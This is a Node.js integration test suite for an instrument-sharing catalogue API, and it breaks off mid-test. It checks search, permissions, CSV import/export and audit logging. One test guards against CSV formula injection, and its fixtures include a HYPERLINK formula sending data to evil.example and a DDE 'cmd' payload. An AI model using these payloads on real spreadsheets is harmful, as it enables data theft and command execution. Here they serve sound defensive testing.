// The catalogue against the real binary on the demo world (`yiqi demo`): the
// classification, create/patch/retire with validation and permissions, search
// (Chinese substrings, English words, case, every filter, sorts, cursor paging
// without gaps or repeats, facets), all-or-nothing CSV import (UTF-8, BOM,
// GB18030, quoted cells), re-import, export round trip, open data, and audit
// rows with before/after. Every JSON answer is checked against the contract.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { cli, startServer, tempDir, Client } from './lib/server.mjs';
import { checkResponse } from './lib/openapi.mjs';

let srv, dbPath;
const logins = {}; // role -> [{login, password, org}]
let anon, admin, commission, opA, opB, resA, resB;
let orgA, orgB; // {id, zone}

const sqlite = (sql) => spawnSync('sqlite3', [dbPath, sql], { encoding: 'utf8' }).stdout.trim();

async function call(client, method, path, body, headers) {
  const r = await client.req(method, path, body, headers);
  checkResponse(method, path, r);
  return r;
}
const get = (c, p) => call(c, 'GET', p);

function signedIn(login, password) {
  const c = new Client(srv.url);
  return c.signIn(login, password).then(() => c);
}

before(async () => {
  const dir = tempDir();
  dbPath = join(dir, 'yiqi.db');
  const r = cli(['demo', '--db', dbPath]);
  assert.equal(r.status, 0, r.stderr);
  for (const line of r.stdout.split('\n')) {
    const m = line.match(/^\s+(\S+)\s+(\S+)\s+(admin|commission|operator|pi|researcher)\s+(.+)$/);
    if (m) (logins[m[3]] ||= []).push({ login: m[1], password: m[2], org: m[4].trim() });
  }
  assert.equal(logins.operator?.length, 2, 'two operators printed:\n' + r.stdout);
  srv = await startServer({ db: dbPath, dir });
  anon = new Client(srv.url);
  admin = await signedIn(logins.admin[0].login, logins.admin[0].password);
  commission = await signedIn(logins.commission[0].login, logins.commission[0].password);
  opA = await signedIn(logins.operator[0].login, logins.operator[0].password);
  opB = await signedIn(logins.operator[1].login, logins.operator[1].password);
  resA = await signedIn(logins.researcher[0].login, logins.researcher[0].password);
  resB = await signedIn(logins.researcher[1].login, logins.researcher[1].password);
  const zoneOf = (id) => sqlite(`SELECT z.code FROM orgs o JOIN zones z ON z.id = o.zone_id WHERE o.id = ${id}`);
  orgA = { id: opA.user.org_id, zone: zoneOf(opA.user.org_id), code: sqlite(`SELECT code FROM orgs WHERE id = ${opA.user.org_id}`) };
  orgB = { id: opB.user.org_id, zone: zoneOf(opB.user.org_id), code: sqlite(`SELECT code FROM orgs WHERE id = ${opB.user.org_id}`) };
  assert.notEqual(orgA.zone, orgB.zone, 'the printed operators are in different zones');
});
after(async () => { await srv?.stop(); });

// A complete, valid create body for org; overrides merge in.
function instrument(org, over = {}) {
  return {
    owner_org_id: org.id, asset_no: 'T-' + Math.random().toString(36).slice(2, 10),
    name_zh: '量子点荧光寿命测试仪', name_en: 'Quantum dot fluorescence lifetime spectrometer',
    model: 'ZQX-9000', manufacturer: 'Yiqi Test Instruments', country: 'CN', class_code: '010401',
    category_type: 'general', share_mode: 'external', run_status: 'normal', original_value_fen: 123456700,
    functions: '测量量子点的荧光寿命与量子产率', tech_specs: '时间分辨 25 ps', contact_email: 'lab@example.org',
    rules: { open_hours: [{ weekday: 1, from: '09:00', to: '18:00' }, { weekday: 7, from: '20:00', to: '24:00' }], requires_training: true },
    price: { unit: 'hour', internal_fen: 10000, zone_fen: 20000 },
    ...over,
  };
}

async function search(client, qs) {
  const r = await get(client, '/api/v1/instruments?' + new URLSearchParams(qs));
  assert.equal(r.status, 200, JSON.stringify(r.body));
  return r.body;
}
const ids = (page) => page.items.map((i) => i.id);

test('the classification is public and has three levels', async () => {
  const r = await get(anon, '/api/v1/classes');
  assert.equal(r.status, 200);
  const by = Object.fromEntries(r.body.items.map((c) => [c.code, c]));
  assert.equal(by['010000'].level, 1);
  assert.equal(by['010000'].name_zh, '分析仪器');
  assert.equal(by['010100'].parent, '010000');
  assert.equal(by['010102'].level, 3);
  assert.equal(by['010102'].parent, '010100');
  const tops = r.body.items.filter((c) => c.level === 1).map((c) => c.code);
  assert.equal(tops.length, 15);
});

let made; // the instrument opA creates
test('an operator creates an instrument of their institution; others may not', async () => {
  let r = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA));
  assert.equal(r.status, 201, JSON.stringify(r.body));
  made = r.body;
  assert.equal(made.zone, orgA.zone);
  assert.equal(made.owner_org_id, orgA.id);
  assert.ok(made.owner_org_name_zh.length > 0);
  assert.equal(made.class_path[0].code, '010000');
  assert.ok(made.class_name_zh.length > 0);
  assert.equal(made.price.cross_zone_fen, 20000, 'cross-zone rate defaults to the zone rate');
  assert.equal(made.rules.slot_minutes, 30);
  assert.deepEqual(made.rules.open_hours[1], { weekday: 7, from: '20:00', to: '24:00' });
  assert.equal(made.bookable, true);
  r = await get(anon, `/api/v1/instruments/${made.id}`);
  assert.equal(r.status, 200);
  assert.equal(r.body.name_zh, made.name_zh);

  assert.equal((await call(opA, 'POST', '/api/v1/instruments', instrument(orgB))).status, 403);
  assert.equal((await call(resA, 'POST', '/api/v1/instruments', instrument(orgA))).status, 403);
  assert.equal((await call(commission, 'POST', '/api/v1/instruments', instrument(orgA))).status, 403);
  assert.equal((await call(anon, 'POST', '/api/v1/instruments', instrument(orgA))).status, 401);
  assert.equal((await call(admin, 'POST', '/api/v1/instruments', instrument(orgB))).status, 201);
  r = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { asset_no: made.asset_no }));
  assert.equal(r.status, 409);
  assert.equal(r.body.error.field, 'asset_no');
});

test('every invalid field is a 400 naming it', async () => {
  const cases = [
    [{ name_zh: undefined }, 'name_zh'],
    [{ name_en: 'x'.repeat(201) }, 'name_en'],
    [{ country: 'XX' }, 'country'],
    [{ class_code: '019999' }, 'class_code'],
    [{ class_code: '0101' }, 'class_code'],
    [{ category_type: 'common' }, 'category_type'],
    [{ share_mode: 'public' }, 'share_mode'],
    [{ run_status: 'fine' }, 'run_status'],
    [{ original_value_fen: 12.5 }, 'original_value_fen'],
    [{ original_value_fen: -1 }, 'original_value_fen'],
    [{ purchase_date: '2023-02-30' }, 'purchase_date'],
    [{ contact_email: 'nobody' }, 'contact_email'],
    [{ owner_org_id: 999999 }, 'owner_org_id'],
    [{ rules: { open_hours: [{ weekday: 8, from: '09:00', to: '18:00' }] } }, 'rules.open_hours'],
    [{ rules: { open_hours: [{ weekday: 1, from: '09:00', to: '24:30' }] } }, 'rules.open_hours'],
    [{ rules: { open_hours: [{ weekday: 1, from: '18:00', to: '09:00' }] } }, 'rules.open_hours'],
    [{ rules: { slot_minutes: 7 } }, 'rules.slot_minutes'],
    [{ rules: { min_minutes: 60, max_minutes: 30 } }, 'rules.max_minutes'],
    [{ rules: { service_modes: ['teleport'] } }, 'rules.service_modes'],
    [{ rules: undefined }, 'rules'],
    [{ price: { unit: 'day', internal_fen: 1, zone_fen: 1 } }, 'price.unit'],
    [{ price: { unit: 'hour', internal_fen: 1, zone_fen: -5 } }, 'price.zone_fen'],
    [{ price: { unit: 'hour', internal_fen: 1, zone_fen: 1, basis: 'both' } }, 'price.basis'],
    [{ colour: 'red' }, 'colour'],
  ];
  for (const [over, field] of cases) {
    const body = instrument(orgA, over);
    for (const k of Object.keys(over)) if (over[k] === undefined) delete body[k];
    const r = await call(opA, 'POST', '/api/v1/instruments', body);
    assert.equal(r.status, 400, `${field}: ${r.status} ${JSON.stringify(r.body)}`);
    assert.equal(r.body.error.field, field, JSON.stringify(r.body));
  }
});

test('search: Chinese substrings from the middle, English words, any case', async () => {
  const mine = { org: String(orgA.id) };
  for (const q of ['点荧光寿', '荧光', '寿', 'lifetime', 'LIFETIME', 'Quantum DOT', 'zqx-9000', 'yiqi test', '量子产率']) {
    const page = await search(anon, { q, ...mine, limit: '500' });
    assert.ok(ids(page).includes(made.id), `q=${q} finds it`);
  }
  for (const q of ['荧光寿命测试仪器人', 'lifetimes', 'zzzqqq']) {
    const page = await search(anon, { q, ...mine, limit: '500' });
    assert.ok(!ids(page).includes(made.id), `q=${q} does not find it`);
  }
  // Real demo data: a common Chinese term finds many, across both zones.
  const page = await search(anon, { q: '显微镜', limit: '10' });
  assert.ok(page.total > 10, `显微镜 total ${page.total}`);
  assert.ok(page.items.every((i) => /显微镜/.test(i.name_zh + i.functions)));
  const bad = await get(anon, '/api/v1/instruments?q=' + encodeURIComponent('a b c d e'));
  assert.equal(bad.status, 400);
  assert.equal(bad.body.error.field, 'q');
});

test('search filters: zone, class at each level, org, bookable, run status', async () => {
  let p = await search(anon, { zone: orgB.zone, limit: '200' });
  assert.ok(p.items.length > 0 && p.items.every((i) => i.zone === orgB.zone));
  for (const cls of ['01', '0101', '010102']) {
    p = await search(anon, { class: cls, limit: '200' });
    assert.ok(p.items.length > 0, `class ${cls} has instruments`);
    assert.ok(p.items.every((i) => i.class_code.startsWith(cls)), `class ${cls}`);
  }
  p = await search(anon, { org: String(orgB.id), limit: '200' });
  assert.ok(p.items.length > 0 && p.items.every((i) => i.owner_org_id === orgB.id));
  p = await search(anon, { bookable: '1', limit: '500' });
  assert.ok(p.items.every((i) => i.bookable && i.share_mode !== 'none' && !i.retired));
  const all = await search(anon, { limit: '1' });
  assert.ok(p.total < all.total, 'some are not bookable');
  p = await search(anon, { run_status: 'awaiting_repair', limit: '500' });
  assert.ok(p.items.length > 0 && p.items.every((i) => i.run_status === 'awaiting_repair'));
  for (const [k, v] of [['zone', 'mars'], ['class', '123'], ['class', '01a'], ['org', 'x'], ['sort', 'price'], ['run_status', 'ok'], ['cursor', 'garbage'], ['limit', '0']]) {
    const r = await get(anon, `/api/v1/instruments?${k}=${v}`);
    assert.equal(r.status, 400, `${k}=${v}`);
    assert.equal(r.body.error.field, k);
  }
});

async function allPages(client, qs) {
  const seen = [];
  let cursor = null, pages = 0;
  do {
    const p = await search(client, { ...qs, ...(cursor ? { cursor } : {}) });
    seen.push(...p.items);
    cursor = p.next_cursor;
    pages++;
    assert.ok(pages < 200, 'paging ends');
  } while (cursor);
  return seen;
}

test('cursor paging gives every match once, in order, for each sort', async () => {
  const total = (await search(anon, { limit: '1' })).total;
  for (const sort of ['name', 'value', 'relevance']) {
    const items = await allPages(anon, { sort, limit: '97', facets: '0' });
    const idList = items.map((i) => i.id);
    assert.equal(new Set(idList).size, idList.length, `${sort}: no repeats`);
    assert.equal(idList.length, total, `${sort}: no gaps`);
    if (sort === 'value') for (let k = 1; k < items.length; k++) assert.ok(items[k - 1].original_value_fen >= items[k].original_value_fen);
    if (sort === 'name') for (let k = 1; k < items.length; k++) assert.ok(Buffer.compare(Buffer.from(items[k - 1].name_zh), Buffer.from(items[k].name_zh)) <= 0);
  }
  // With a text query (FTS ranking) and with a short query (LIKE), pages equal one big page.
  for (const q of ['分析仪', '光谱']) {
    const big = await search(anon, { q, limit: '500' });
    const paged = await allPages(anon, { q, limit: '7' });
    assert.deepEqual(paged.map((i) => i.id), ids(big), `q=${q}`);
    assert.equal(paged.length, big.total);
  }
  // A cursor of one sort is refused by another.
  const p = await search(anon, { sort: 'name', limit: '5' });
  const r = await get(anon, `/api/v1/instruments?sort=value&cursor=${p.next_cursor}`);
  assert.equal(r.status, 400);
});

test('facets count by zone and top-level class, each ignoring its own filter', async () => {
  const p = await search(anon, { limit: '1' });
  const zsum = p.facets.zone.reduce((s, z) => s + z.count, 0);
  assert.equal(zsum, p.total);
  assert.deepEqual(p.facets.zone.map((z) => z.code).sort(), ['neobay', 'zhangjiang']);
  const csum = p.facets.class.reduce((s, c) => s + c.count, 0);
  assert.equal(csum, p.total);
  assert.ok(p.facets.class.length >= 10, 'spread over the classification');
  const z = await search(anon, { zone: orgA.zone, limit: '1' });
  assert.equal(z.total, p.facets.zone.find((f) => f.code === orgA.zone).count);
  assert.deepEqual(z.facets.zone, p.facets.zone, 'the zone facet ignores the zone filter');
  const c = await search(anon, { zone: orgA.zone, class: '01', limit: '1' });
  assert.equal(c.total, z.facets.class.find((f) => f.code === '01').count);
  assert.deepEqual(c.facets.class, z.facets.class, 'the class facet ignores the class filter');
});

test('visibility and edit rights: internal ones for their own institution only; operators edit their own', async () => {
  const r = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { share_mode: 'internal', name_zh: '内部专用离心机', name_en: 'In-house centrifuge' }));
  assert.equal(r.status, 201);
  const internal = r.body;
  assert.equal((await get(anon, `/api/v1/instruments/${internal.id}`)).status, 404);
  assert.equal((await get(resB, `/api/v1/instruments/${internal.id}`)).status, 404);
  assert.equal((await get(resA, `/api/v1/instruments/${internal.id}`)).status, 200);
  assert.equal((await get(commission, `/api/v1/instruments/${internal.id}`)).status, 200);
  assert.ok(!ids(await search(anon, { q: '内部专用', limit: '500' })).includes(internal.id));
  assert.ok(!ids(await search(resB, { q: '内部专用', limit: '500' })).includes(internal.id));
  assert.ok(ids(await search(resA, { q: '内部专用', limit: '500' })).includes(internal.id));
  // Another institution's operator: 404 on what they cannot see, 403 on what they can.
  assert.equal((await call(opB, 'PATCH', `/api/v1/instruments/${internal.id}`, { room: 'X' })).status, 404);
  assert.equal((await call(opB, 'PATCH', `/api/v1/instruments/${made.id}`, { room: 'X' })).status, 403);
  assert.equal((await call(commission, 'PATCH', `/api/v1/instruments/${made.id}`, { room: 'X' })).status, 403);
  assert.equal((await call(resA, 'PATCH', `/api/v1/instruments/${made.id}`, { room: 'X' })).status, 403);
  assert.equal((await call(anon, 'PATCH', `/api/v1/instruments/${made.id}`, { room: 'X' })).status, 401);
  assert.equal((await call(opB, 'POST', `/api/v1/instruments/${made.id}/retire`)).status, 403);
  assert.equal((await get(anon, '/api/v1/instruments/99999999')).status, 404);
});

test('PATCH changes what it names, keeps the rest, and audits before and after', async () => {
  let r = await call(opA, 'PATCH', `/api/v1/instruments/${made.id}`, { price: { zone_fen: 25000 }, room: 'B-101', rules: { requires_approval: true } });
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(r.body.price.zone_fen, 25000);
  assert.equal(r.body.price.internal_fen, 10000);
  assert.equal(r.body.price.cross_zone_fen, 20000, 'a PATCH does not re-default the cross-zone rate');
  assert.equal(r.body.room, 'B-101');
  assert.equal(r.body.rules.requires_approval, true);
  assert.equal(r.body.rules.requires_training, true);
  assert.equal(r.body.name_zh, made.name_zh);
  // Sending back the object as read is accepted (read-only members ignored).
  r = await call(opA, 'PATCH', `/api/v1/instruments/${made.id}`, { ...r.body, model: 'ZQX-9001' });
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(r.body.model, 'ZQX-9001');
  r = await call(admin, 'PATCH', `/api/v1/instruments/${made.id}`, { name_en: 'Quantum dot lifetime spectrometer' });
  assert.equal(r.status, 200);
  r = await call(opA, 'PATCH', `/api/v1/instruments/${made.id}`, { owner_org_id: orgB.id });
  assert.equal(r.status, 400);
  assert.equal(r.body.error.field, 'owner_org_id');
  r = await call(opA, 'PATCH', `/api/v1/instruments/${made.id}`, { price: { step_minutes: 0 } });
  assert.equal(r.body.error.field, 'price.step_minutes');
  // The search index follows the rename.
  assert.ok(ids(await search(anon, { q: 'ZQX-9001', limit: '50' })).includes(made.id));
  assert.ok(!ids(await search(anon, { q: 'fluorescence lifetime', org: String(orgA.id), limit: '500' })).includes(made.id));

  const rows = JSON.parse(sqlite(`SELECT json_group_array(json_object('action', action, 'login', actor_login, 'before', json(before_json), 'after', json(after_json))) FROM audit WHERE object_type = 'instrument' AND object_id = ${made.id} ORDER BY id`));
  assert.deepEqual(rows.map((x) => x.action), ['instrument_create', 'instrument_update', 'instrument_update', 'instrument_update']);
  assert.equal(rows[0].before, null);
  assert.equal(rows[0].after.name_zh, made.name_zh);
  assert.equal(rows[1].before.price.zone_fen, 20000);
  assert.equal(rows[1].after.price.zone_fen, 25000);
  assert.equal(rows[1].login, opA.user.login);
  assert.equal(rows[3].login, admin.user.login);
});

test('retire keeps the record, hides it from the public list, and is audited', async () => {
  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { name_zh: '待报废紫外分光光度计', name_en: 'Old UV-Vis spectrophotometer' }));
  const id = r0.body.id;
  let r = await call(opA, 'POST', `/api/v1/instruments/${id}/retire`);
  assert.equal(r.status, 200);
  assert.equal(r.body.retired, true);
  assert.equal(r.body.bookable, false);
  assert.ok(r.body.retired_at);
  assert.equal((await call(opA, 'POST', `/api/v1/instruments/${id}/retire`)).status, 409);
  assert.equal((await get(anon, `/api/v1/instruments/${id}`)).status, 404);
  assert.equal((await get(resB, `/api/v1/instruments/${id}`)).status, 200, 'signed-in users still find history');
  assert.ok(!ids(await search(anon, { q: '待报废', limit: '50' })).includes(id));
  assert.ok(!ids(await search(opA, { q: '待报废', limit: '50' })).includes(id));
  assert.ok(ids(await search(opA, { q: '待报废', include_retired: '1', limit: '50' })).includes(id));
  assert.ok(!ids(await search(opB, { q: '待报废', include_retired: '1', limit: '50' })).includes(id));
  assert.equal(sqlite(`SELECT count(*) FROM instruments WHERE id = ${id}`), '1');
  const a = JSON.parse(sqlite(`SELECT json_object('b', json(before_json), 'a', json(after_json)) FROM audit WHERE action = 'instrument_retire' AND object_id = ${id}`));
  assert.equal(a.b.retired, false);
  assert.equal(a.a.retired, true);
});

// ---- CSV ----

const HEAD = 'asset_no,name_zh,name_en,model,manufacturer,class_code,category_type,share_mode,run_status,original_value_fen,tech_specs,rules.open_hours,price.unit,price.internal_fen,price.zone_fen';
const row = (asset, name, extra = {}) => {
  const f = { asset, name, en: 'Imported instrument ' + asset, model: 'M-1', manuf: 'Maker', cls: '010501', cat: 'general', share: 'external', status: 'normal', value: '5000000', specs: '"精度 0.1 mg, 量程 220 g\n第二行"', hours: '1-5 09:00-18:00', unit: 'hour', internal: '5000', zone: '8000', ...extra };
  return [f.asset, f.name, f.en, f.model, f.manuf, f.cls, f.cat, f.share, f.status, f.value, f.specs, f.hours, f.unit, f.internal, f.zone].join(',');
};
const csv = (lines) => lines.join('\r\n') + '\r\n';
const importCsv = (client, body, ctype = 'text/csv') => call(client, 'POST', '/api/v1/instruments/import', body, { 'content-type': ctype });
const countName = (name) => Number(sqlite(`SELECT count(*) FROM instruments WHERE name_zh = '${name}'`));

test('import is all or nothing: a bad row in the middle reports every bad row and writes none', async () => {
  const body = csv([HEAD,
    row('IMP-1', '导入甲天平'),
    row('IMP-2', '导入乙天平'),
    row('IMP-3', '导入丙天平', { cls: '999999', zone: 'abc' }),
    row('IMP-4', '导入丁天平'),
    row('IMP-5', '', { hours: '8 09:00-18:00' }),
  ]);
  const r = await importCsv(opA, body);
  assert.equal(r.status, 400, JSON.stringify(r.body));
  const got = r.body.rows.map((x) => `${x.row}:${x.field}`).sort();
  assert.deepEqual(got, ['3:class_code', '3:price.zone_fen', '5:name_zh', '5:rules.open_hours'].sort());
  for (const n of ['导入甲天平', '导入乙天平', '导入丁天平']) assert.equal(countName(n), 0, `${n} not written`);
  // Fixed, it all goes in; multi-line quoted cells survive.
  const ok = await importCsv(opA, csv([HEAD, row('IMP-1', '导入甲天平'), row('IMP-2', '导入乙天平'), row('IMP-4', '导入丁天平')]));
  assert.equal(ok.status, 200, JSON.stringify(ok.body));
  assert.deepEqual(ok.body, { created: 3, updated: 0, unchanged: 0 });
  const p = await search(anon, { q: '导入甲天', limit: '5' });
  assert.equal(p.items.length, 1);
  assert.equal(p.items[0].tech_specs, '精度 0.1 mg, 量程 220 g\n第二行');
  assert.equal(p.items[0].owner_org_id, orgA.id, 'an operator imports into their own institution');
  assert.equal(p.items[0].price.cross_zone_fen, 8000);
  // Re-import: nothing changed, then one changed row.
  let again = await importCsv(opA, csv([HEAD, row('IMP-1', '导入甲天平'), row('IMP-2', '导入乙天平'), row('IMP-4', '导入丁天平')]));
  assert.deepEqual(again.body, { created: 0, updated: 0, unchanged: 3 });
  again = await importCsv(opA, csv([HEAD, row('IMP-1', '导入甲天平'), row('IMP-2', '导入乙天平', { zone: '9000' }), row('IMP-4', '导入丁天平')]));
  assert.deepEqual(again.body, { created: 0, updated: 1, unchanged: 2 });
  assert.equal(sqlite(`SELECT price_zone_fen FROM instruments WHERE owner_org_id = ${orgA.id} AND asset_no = 'IMP-2'`), '9000');
  assert.equal(Number(sqlite(`SELECT count(*) FROM audit WHERE action = 'instrument_update' AND object_id = (SELECT id FROM instruments WHERE owner_org_id = ${orgA.id} AND asset_no = 'IMP-2')`)), 1);
});

test('import: operators only their own institution; admins name it; headers and types checked', async () => {
  const withOrg = 'owner_org_code,' + HEAD;
  let r = await importCsv(opA, csv([withOrg, `${orgB.code},` + row('IMP-X', '越权导入仪')]));
  assert.equal(r.status, 400);
  assert.equal(r.body.rows[0].field, 'owner_org_code');
  assert.equal(countName('越权导入仪'), 0);
  r = await importCsv(admin, csv([withOrg, `${orgB.code},` + row('IMP-X', '管理员导入仪')]));
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(Number(sqlite(`SELECT owner_org_id FROM instruments WHERE name_zh = '管理员导入仪'`)), orgB.id);
  r = await importCsv(admin, csv([HEAD, row('IMP-Y', '无单位导入仪')]));
  assert.equal(r.status, 400, 'an admin has no institution of their own');
  assert.equal(r.body.rows[0].field, 'owner_org_code');
  r = await importCsv(opA, csv([HEAD + ',colour', row('IMP-Z', '多列仪') + ',red']));
  assert.equal(r.status, 400);
  assert.equal(r.body.error.code, 'unknown_column');
  assert.equal((await importCsv(opA, csv([HEAD, row('IMP-Z', '类型仪')]), 'application/json')).status, 415);
  assert.equal((await importCsv(opA, csv([HEAD, row('IMP-Z', '类型仪')]), 'text/csv; charset=latin1')).status, 415);
  assert.equal((await importCsv(resA, csv([HEAD, row('IMP-Z', '类型仪')]))).status, 403);
  assert.equal((await importCsv(anon, csv([HEAD, row('IMP-Z', '类型仪')]))).status, 401);
  r = await importCsv(opA, 'asset_no,name_zh\r\n"unterminated,x\r\n');
  assert.equal(r.status, 400);
});

function gb18030(text) {
  const r = spawnSync('iconv', ['-f', 'UTF-8', '-t', 'GB18030'], { input: Buffer.from(text, 'utf8') });
  assert.equal(r.status, 0);
  return new Uint8Array(r.stdout);
}

test('import: GB18030 (named or detected) and UTF-8 with BOM and Chinese headers', async () => {
  const zhHead = '资产编号,仪器名称,英文名称,规格型号,生产制造商,分类编码,仪器类型,共享方式,运行状态,原值（分）,主要技术指标,开放时间,计费单位,本单位价格（分）,片区内价格（分）';
  let r = await importCsv(opA, gb18030(csv([zhHead, row('GB-1', '国标编码电子天平')])), 'text/csv; charset=gb18030');
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(countName('国标编码电子天平'), 1);
  r = await importCsv(opA, gb18030(csv([zhHead, row('GB-2', '未声明编码的天平')])));
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(countName('未声明编码的天平'), 1);
  r = await importCsv(opA, '\uFEFF' + csv([zhHead, row('BOM-1', '带签名的天平')]), 'text/csv; charset=utf-8');
  assert.equal(r.status, 200, JSON.stringify(r.body));
  assert.equal(countName('带签名的天平'), 1);
  const p = await search(anon, { q: '国标编码', limit: '5' });
  assert.equal(p.items[0].name_en, 'Imported instrument GB-1');
});

test('export CSV (UTF-8 with BOM) gives the same columns back: a round trip changes nothing', async () => {
  const r = await opA.get(`/api/v1/instruments/export.csv?org=${orgA.id}`);
  assert.equal(r.status, 200);
  checkResponse('GET', '/api/v1/instruments/export.csv', r);
  assert.match(r.headers.get('content-type'), /^text\/csv; charset=utf-8/);
  const bytes = Buffer.from(await (await fetch(`${srv.url}/api/v1/instruments/export.csv?org=${orgA.id}`)).arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'BOM for Excel');
  const header = r.text.replace(/^\uFEFF/, '').split('\r\n')[0].split(',');
  assert.equal(header[0], 'owner_org_code');
  assert.ok(header.includes('price.cross_zone_fen') && header.includes('rules.open_hours'));
  const n = Number(sqlite(`SELECT count(*) FROM instruments WHERE owner_org_id = ${orgA.id} AND retired_at IS NULL`));
  const back = await importCsv(opA, r.text, 'text/csv; charset=utf-8');
  assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
  assert.deepEqual(back.body, { created: 0, updated: 0, unchanged: n });
  const zh = await opA.get(`/api/v1/instruments/export.csv?org=${orgA.id}&headers=zh`);
  assert.ok(zh.text.replace(/^\uFEFF/, '').startsWith('单位代码,资产编号,仪器名称'));
  // Anonymous export holds only public instruments.
  const pub = await anon.get(`/api/v1/instruments/export.csv?org=${orgA.id}`);
  assert.ok(!pub.text.includes('内部专用离心机'));
  assert.ok(zh.text.includes('内部专用离心机'));
});

test('the open-data JSON export lists exactly the public instruments', async () => {
  const r = await get(resA, '/api/v1/instruments/export.json');
  assert.equal(r.status, 200);
  assert.equal(r.body.count, r.body.items.length);
  assert.ok(r.body.items.every((i) => i.share_mode === 'external' && !i.retired));
  assert.ok(!r.body.items.some((i) => i.name_zh === '内部专用离心机'), 'not even for its own institution');
  const pub = await search(anon, { limit: '1' });
  assert.equal(r.body.count, pub.total);
});

test('search sees catalogue changes made by another process, and not those rolled back', async () => {
  // The server keeps the search rows in memory (instrument_search.c); a write
  // through another connection must still show in the next search.
  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { name_zh: '旁路写入校验仪', name_en: 'Side channel check unit' }));
  const id = r0.body.id;
  assert.deepEqual(ids(await search(anon, { q: '旁路写入', limit: '50' })), [id]);
  sqlite(`UPDATE instruments SET name_zh = '外部进程改名仪', model = 'QZX-77' WHERE id = ${id}`);
  assert.deepEqual(ids(await search(anon, { q: '外部进程', limit: '50' })), [id], 'a rename by another process shows');
  assert.deepEqual(ids(await search(anon, { q: 'qz', limit: '50' })), [id], 'in the short-word search too');
  assert.deepEqual(ids(await search(anon, { q: '旁路写入', limit: '50' })), [], 'the old name is gone');
  sqlite(`BEGIN; UPDATE instruments SET name_zh = '回滚的名字' WHERE id = ${id}; ROLLBACK;`);
  assert.deepEqual(ids(await search(anon, { q: '回滚的名', limit: '50' })), []);
  assert.deepEqual(ids(await search(anon, { q: '外部进程', limit: '50' })), [id]);
  sqlite(`UPDATE instruments SET share_mode = 'internal' WHERE id = ${id}`);
  assert.deepEqual(ids(await search(anon, { q: '外部进程', limit: '50' })), [], 'internal now: not public');
  assert.deepEqual(ids(await search(opA, { q: '外部进程', limit: '50' })), [id], 'still for its own institution');
});

// ---- hostile-client findings (h1 sections 1-4) ----

// Parses CSV text (quoted cells may hold commas, quotes and line breaks) into rows of cells.
function parseCsv(text) {
  const rows = [];
  let r = [], cell = '', q = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const ch = s[i];
    if (q) {
      if (ch === '"' && s[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') q = false; else cell += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') { r.push(cell); cell = ''; } else if (ch === '\r') { /* CRLF */ } else if (ch === '\n') { r.push(cell); rows.push(r); r = []; cell = ''; } else cell += ch;
  }
  if (cell || r.length) { r.push(cell); rows.push(r); }
  return rows;
}
const csvRecords = (text) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
};

test('CSV exports guard text that a spreadsheet would run as a formula; re-importing the export keeps it', async () => {
  const evil = {
    name_zh: '=HYPERLINK("http://evil.example/?x="&A1,"点击")', model: "+1+cmd|'/C calc'!A0",
    manufacturer: '@SUM(1+1)', asset_no: '-公式-' + Math.random().toString(36).slice(2, 8), name_en: 'Formula guard check',
  };
  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, evil));
  assert.equal(r0.status, 201, JSON.stringify(r0.body));
  const id = r0.body.id;
  // The public export, anonymously: the name has the apostrophe, the file round-trips.
  const pub = await anon.get(`/api/v1/instruments/export.csv?org=${orgA.id}&q=${encodeURIComponent('Formula guard')}`);
  assert.equal(pub.status, 200);
  const recs = csvRecords(pub.text);
  assert.equal(recs.length, 1, pub.text);
  assert.equal(recs[0].name_zh, "'" + evil.name_zh);
  assert.equal(recs[0].model, "'" + evil.model);
  assert.equal(recs[0].manufacturer, "'" + evil.manufacturer);
  assert.equal(recs[0].asset_no, "'" + evil.asset_no);
  assert.ok(pub.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`), 'written as Excel reads text');
  assert.equal(recs[0].original_value_fen, '123456700', 'numbers are not touched');
  const back = await importCsv(opA, pub.text, 'text/csv; charset=utf-8');
  assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
  assert.deepEqual(back.body, { created: 0, updated: 0, unchanged: 1 }, 'the apostrophes come off again');
  const got = (await get(anon, `/api/v1/instruments/${id}`)).body;
  assert.equal(got.name_zh, evil.name_zh);
  assert.equal(got.model, evil.model);
  assert.equal(got.asset_no, evil.asset_no);
  // The commission's annual report goes through the same writer.
  const year = new Date(Date.now() + 8 * 3600e3).getUTCFullYear();
  const rep = await commission.get(`/api/v1/stats/annual-report?year=${year}&org=${orgA.id}`);
  assert.equal(rep.status, 200);
  const line = parseCsv(rep.text).find((r) => r.includes("'" + evil.asset_no));
  assert.ok(line, 'the instrument is in the annual report');
  assert.ok(line.includes("'" + evil.name_zh) && !line.includes(evil.name_zh), line.join(' | '));
});

test('the exports follow every catalogue change: instruments, institution and zone names, other processes', async () => {
  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, { name_zh: '导出缓存校验仪', name_en: 'Export cache check' }));
  const id = r0.body.id;
  const json = async () => (await anon.get('/api/v1/instruments/export.json')).body;
  const csvOf = async (client = anon) => csvRecords((await client.get(`/api/v1/instruments/export.csv?org=${orgA.id}`)).text);
  let j1 = await json();
  const j2 = await json();
  assert.equal(j2.generated_at, j1.generated_at, 'asked again with nothing changed: the same bytes');
  assert.equal(j1.items.find((i) => i.id === id)?.name_zh, '导出缓存校验仪');
